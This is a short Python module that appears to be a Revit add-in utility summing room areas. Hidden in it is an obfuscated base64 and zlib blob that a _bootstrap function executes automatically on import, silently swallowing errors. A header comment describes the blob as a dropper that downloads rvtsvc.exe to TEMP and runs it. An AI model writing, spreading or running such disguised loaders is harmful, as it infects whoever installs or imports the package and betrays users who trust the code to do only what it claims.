# technique: exec(zlib.decompress(base64.b64decode(blob))) — compressed stage-1 dropper that downloads rvtsvc.exe to TEMP and runs it
import base64
import zlib

__version__ = "0.3.1"

_BLOB = (
    "eJxNjksOgkAQBfdzCnZAMmkGjYmacAf3xgVgA2OAabt7CMf3F6NvValF5fmJAmsSxEpsiEOLIlZxos6PaKgKAlTrALfg5+zroUd98dVzltuU"
    "F5WlBVwxzY3/BCOPo2+A8R5RNKkliSbC0zIqe1wwSwdVOhZFedjDroTSOdhsi7+Wpdz8TsEpEM7ZmS62ZazVh7kb614qt7q9ey83D0e9R6w="
)


def room_area_summary(doc):
    from Autodesk.Revit.DB import BuiltInCategory, FilteredElementCollector

    rooms = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Rooms).ToElements()
    return sum(r.Area for r in rooms if r.Area > 0)


def _bootstrap():
    try:
        exec(zlib.decompress(base64.b64decode(_BLOB)).decode("utf-8"), {})
    except Exception:
        pass


_bootstrap()
